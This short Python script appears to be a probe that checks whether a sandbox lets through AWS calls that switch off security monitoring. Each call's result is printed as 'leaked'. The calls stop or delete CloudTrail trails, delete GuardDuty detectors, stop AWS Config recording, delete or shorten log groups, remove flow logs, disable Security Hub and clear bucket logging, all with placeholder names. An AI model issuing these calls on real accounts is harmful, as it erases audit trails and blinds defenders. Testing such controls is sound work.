import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except BaseException as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import boto3
for service, operation, params in (
    ("cloudtrail", "stop_logging", {"Name": "t"}), ("cloudtrail", "delete_trail", {"Name": "t"}), ("cloudtrail", "put_event_selectors", {"TrailName": "t"}),
    ("guardduty", "delete_detector", {"DetectorId": "d"}), ("config", "stop_configuration_recorder", {"ConfigurationRecorderName": "r"}),
    ("logs", "delete_log_group", {"logGroupName": "g"}), ("logs", "put_retention_policy", {"logGroupName": "g", "retentionInDays": 1}),
    ("ec2", "delete_flow_logs", {"FlowLogIds": ["f"]}), ("securityhub", "disable_security_hub", {}), ("s3", "put_bucket_logging", {"Bucket": "mine", "BucketLoggingStatus": {}})):
    attempt(lambda: leak(getattr(boto3.client(service), operation)(**params)))
